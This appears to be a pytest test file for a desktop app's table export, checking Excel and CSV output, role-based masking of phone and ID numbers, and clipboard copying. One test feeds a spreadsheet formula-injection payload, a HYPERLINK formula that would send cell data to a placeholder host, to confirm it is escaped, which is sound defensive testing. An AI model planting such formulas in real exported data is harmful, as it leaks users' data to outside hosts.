"""Tables exported from their context menu hold what the view shows, in the user's role."""

from __future__ import annotations

import csv
from datetime import date, datetime

import openpyxl
import pytest
from PySide6.QtCore import QItemSelectionModel, Qt
from PySide6.QtGui import QGuiApplication
from sqlalchemy import select

from app.models import Customer, Specialist
from app.services.files.table_file import PERCENT_FORMAT
from app.views.table_export import default_file_name, install_table_export, visible_columns
from app.views.table_models import ROW_ROLE


def _loaded(qtbot, model, minimum=1):
    qtbot.waitUntil(lambda: model.rowCount() >= minimum, timeout=10000)


def _export(qtbot, exporter, path, suffix):
    with qtbot.waitSignal(exporter.exported, timeout=20000) as blocker:
        exporter.export_table(str(path), suffix=suffix)
    assert blocker.args == [str(path)]
    return path


def _shown(view, row, logical):
    return view.model().index(row, logical).data()


def _sheet_text(path) -> str:
    ws = openpyxl.load_workbook(path).active
    return "\n".join(
        "\t".join("" if v is None else str(v) for v in row)
        for row in ws.iter_rows(values_only=True)
    )


def test_roster_to_excel_is_what_the_view_shows(open_window, qtbot, tmp_path):
    w = open_window("senior")
    page = w.show_page("roster")
    _loaded(qtbot, page.model)
    view = page.table
    keys = [c.key for c in page.model.columns]
    header = view.horizontalHeader()
    # The user sorted by open tasks, most first, hid the contract column and moved the
    # persistency column to the front.
    view.sortByColumn(keys.index("open"), Qt.SortOrder.DescendingOrder)
    header.hideSection(keys.index("contract"))
    header.moveSection(header.visualIndex(keys.index("persistency")), 0)
    cols = visible_columns(view)
    assert cols[0] == keys.index("persistency") and keys.index("contract") not in cols

    path = _export(qtbot, page.table_export, tmp_path / "roster.xlsx", ".xlsx")
    ws = openpyxl.load_workbook(path).active
    rows = list(ws.iter_rows(values_only=True))
    # The header as the view shows it, a two-line one on one line.
    shown_headers = [
        page.model.headerData(c, Qt.Orientation.Horizontal).replace("\n", " ") for c in cols
    ]
    assert list(rows[0]) == shown_headers
    assert len(rows) - 1 == page.proxy.rowCount()
    assert ws.freeze_panes == "A2" and ws["A1"].font.bold

    open_col = cols.index(keys.index("open"))
    emp_col = cols.index(keys.index("employee_no"))
    open_counts = [r[open_col] for r in rows[1:]]
    assert all(isinstance(v, int) for v in open_counts)
    assert open_counts == sorted(open_counts, reverse=True)
    assert [r[emp_col] for r in rows[1:]] == [
        _shown(view, i, keys.index("employee_no")) for i in range(page.proxy.rowCount())
    ]
    # A rate is a number formatted as a percentage, where the view shows "87.3%".
    rated = next(i for i, r in enumerate(rows[1:]) if isinstance(r[0], float))
    assert ws.cell(row=rated + 2, column=1).number_format == PERCENT_FORMAT
    assert f"{rows[rated + 1][0] * 100:.1f}%" == _shown(view, rated, keys.index("persistency"))
    # Cells the roster builds from several fields are exported as shown.
    load_col = cols.index(keys.index("customers"))
    assert rows[1][load_col] == _shown(view, 0, keys.index("customers"))


def test_roster_to_csv_follows_the_filter(open_window, qtbot, tmp_path):
    w = open_window("senior")
    page = w.show_page("roster")
    _loaded(qtbot, page.model)
    page.active_only.setChecked(True)
    path = _export(qtbot, page.table_export, tmp_path / "roster.csv", ".csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    view = page.table
    cols = visible_columns(view)
    assert rows[0] == [
        page.model.headerData(c, Qt.Orientation.Horizontal).replace("\n", " ") for c in cols
    ]
    assert len(rows) - 1 == page.proxy.rowCount() < page.model.rowCount()
    assert rows[1] == [_shown(view, 0, c) for c in cols]


@pytest.mark.slow
def test_task_queue_exports_every_row_in_the_database_order(open_window, qtbot, tmp_path):
    w = open_window("senior")
    page = w.show_page("tasks")
    _loaded(qtbot, page.model, 100)
    page.status.setCurrentIndex(page.status.findData("all"))
    # The queue shows its first page, then counts every match; the export has them all, not
    # only the pages scrolled to.
    qtbot.waitUntil(lambda: page.count.text().endswith(" tasks"), timeout=10000)
    total = int(page.count.text().split()[0].replace(",", ""))
    assert page.model.rowCount() < total
    path = _export(qtbot, page.table_export, tmp_path / "tasks.xlsx", ".xlsx")
    ws = openpyxl.load_workbook(path).active
    rows = list(ws.iter_rows(values_only=True))
    keys = [c.key for c in page.model.columns]
    assert len(rows) - 1 == total
    first = [_shown(page.table, i, 0) for i in range(50)]
    assert [r[0] for r in rows[1:51]] == first
    due = [r[keys.index("due_date")] for r in rows[1:] if r[keys.index("due_date")] is not None]
    assert due and all(isinstance(d, datetime) for d in due)  # dates, not text
    assert [d.date() for d in due] == sorted(d.date() for d in due)  # sorted by due date
    created = rows[1][keys.index("created_at")]
    assert isinstance(created, datetime)
    assert created.strftime("%Y-%m-%d %H:%M") == _shown(page.table, 0, keys.index("created_at"))


def _contact_data(demo_db):
    with demo_db() as s:
        phones = set(s.scalars(select(Customer.phone).where(Customer.phone.is_not(None))))
        phones |= set(s.scalars(select(Specialist.phone).where(Specialist.phone.is_not(None))))
        ids = set(s.scalars(select(Customer.id_number).where(Customer.id_number.is_not(None))))
    return {p for p in phones if p}, {i for i in ids if i}


def test_analyst_exports_hold_no_unmasked_phone_or_id_number(open_window, qtbot, tmp_path, demo_db):
    from app.views.specialist_dialog import SpecialistDialog

    phones, ids = _contact_data(demo_db)
    assert phones and ids
    w = open_window("analyst")
    assert not w.ctx.user.sees_contact_data

    roster = w.show_page("roster")
    _loaded(qtbot, roster.model)
    files = [_export(qtbot, roster.table_export, tmp_path / "roster.xlsx", ".xlsx")]
    files.append(_export(qtbot, roster.table_export, tmp_path / "roster.csv", ".csv"))

    tasks = w.show_page("tasks")
    _loaded(qtbot, tasks.model)
    files.append(_export(qtbot, tasks.table_export, tmp_path / "tasks.xlsx", ".xlsx"))

    dialog = SpecialistDialog(w.ctx, roster.model.row_at(0), w)
    qtbot.addWidget(dialog)
    _loaded(qtbot, dialog.customers)
    customers_view = dialog.tabs.widget(0)
    exporter = customers_view.findChild(type(roster.table_export), "table_export")
    files.append(_export(qtbot, exporter, tmp_path / "customers.xlsx", ".xlsx"))

    texts = [_sheet_text(f) if f.suffix == ".xlsx" else f.read_text("utf-8-sig") for f in files]
    assert "****" in texts[0] and "****" in texts[3]  # the phone columns are there, masked
    for text in texts:
        assert not [p for p in phones if p in text]
        assert not [i for i in ids if i in text]


def test_senior_supervisor_exports_contact_data_in_full(open_window, qtbot, tmp_path, demo_db):
    phones, _ = _contact_data(demo_db)
    w = open_window("senior")
    roster = w.show_page("roster")
    _loaded(qtbot, roster.model)
    text = _sheet_text(_export(qtbot, roster.table_export, tmp_path / "r.xlsx", ".xlsx"))
    assert any(p in text for p in phones)


def test_context_menu_offers_copy_and_both_exports(open_window, qtbot):
    w = open_window("senior")
    page = w.show_page("roster")
    _loaded(qtbot, page.model)
    exporter = page.table_export
    menu = exporter.menu()
    texts = [a.text() for a in menu.actions() if not a.isSeparator()]
    assert texts == ["Copy", "Export table as Excel…", "Export table as CSV…"]
    assert not exporter.copy_action.isEnabled()  # nothing selected yet
    assert page.table.contextMenuPolicy() == Qt.ContextMenuPolicy.CustomContextMenu

    view = page.table
    selection = view.selectionModel()
    for row in (0, 1):
        selection.select(
            view.model().index(row, 0),
            QItemSelectionModel.SelectionFlag.Select | QItemSelectionModel.SelectionFlag.Rows,
        )
    text = exporter.copy_selection()
    assert QGuiApplication.clipboard().text() == text
    lines = text.split("\n")
    assert len(lines) == 2
    first = view.model().index(0, 0).data(ROW_ROLE)
    assert lines[0].split("\t")[0] == first.employee_no
    assert exporter.menu().actions()[0].isEnabled()


def test_every_table_of_the_pages_has_the_export_menu(open_window):
    w = open_window("senior")
    from PySide6.QtWidgets import QTableView

    for key in ("roster", "tasks", "intake"):
        page = w.show_page(key)
        for view in page.findChildren(QTableView):
            assert view.contextMenuPolicy() == Qt.ContextMenuPolicy.CustomContextMenu, (
                key,
                view.objectName(),
            )


def test_default_file_names_say_what_and_when():
    assert default_file_name("专员", ".xlsx", today=date(2026, 11, 20)) == "专员_2026-11-20.xlsx"
    assert default_file_name("王 明 Customers/客户", ".csv", today=date(2026, 1, 2)) == (
        "王_明_Customers_客户_2026-01-02.csv"
    )


@pytest.mark.slow
def test_reading_a_big_proxied_table_keeps_none_alive(qtbot):
    """PySide6 6.12 drops a reference to None on each proxied read of a None cell; the export
    reads the model under the proxy directly, so a big table cannot free None."""
    import gc
    import sys

    from PySide6.QtCore import QSortFilterProxyModel
    from PySide6.QtWidgets import QTableView

    from app.views.table_export import read_view
    from app.views.table_models import SORT_ROLE, Column, RowTableModel

    model = RowTableModel(
        [Column("n", "n", lambda r: r, numeric=True), Column("t", "t", lambda r: f"#{r}")]
    )
    model.set_rows(list(range(5000)))
    proxy = QSortFilterProxyModel()
    proxy.setSourceModel(model)
    proxy.setSortRole(SORT_ROLE)
    view = QTableView()
    qtbot.addWidget(view)
    view.setModel(proxy)
    view.setSortingEnabled(True)
    view.sortByColumn(0, Qt.SortOrder.DescendingOrder)
    gc.collect()  # what earlier tests left must not be freed while None is counted
    gc.disable()
    try:
        before = sys.getrefcount(None)
        table = read_view(view)
        lost = before - sys.getrefcount(None)
    finally:
        gc.enable()
    assert lost < 100  # the buggy path loses one per None cell: 5,000 here
    assert [row[0] for row in table.values[:3]] == [4999, 4998, 4997]
    assert table.kinds == ["number", "text"]


def test_save_dialogs_start_in_documents_or_else_home(monkeypatch, tmp_path, qapp):
    from app.views.table_export import save_folder

    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_DOCUMENTS_DIR", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / ".config"))
    assert save_folder() == tmp_path  # no Documents folder: the home folder, which exists
    (tmp_path / "Documents").mkdir()
    assert save_folder() == tmp_path / "Documents"


def test_copied_cells_never_paste_as_formulas(qtbot):
    from PySide6.QtGui import QStandardItem, QStandardItemModel
    from PySide6.QtWidgets import QTableView

    from app.views.operations import BackgroundRunner

    model = QStandardItemModel()
    model.setHorizontalHeaderLabels(["Name", "Note"])
    model.appendRow([QStandardItem('=HYPERLINK("http://x/?a="&A1)'), QStandardItem("+8 pts")])
    model.appendRow([QStandardItem("@SUM(A1)"), QStandardItem("line\rbreak")])
    view = QTableView()
    qtbot.addWidget(view)
    view.setModel(model)
    exporter = install_table_export(view, name="t", runner=BackgroundRunner(view))
    view.selectAll()
    lines = exporter.copy_selection().split("\n")
    assert lines == ['\'=HYPERLINK("http://x/?a="&A1)\t+8 pts', "'@SUM(A1)\tline break"]
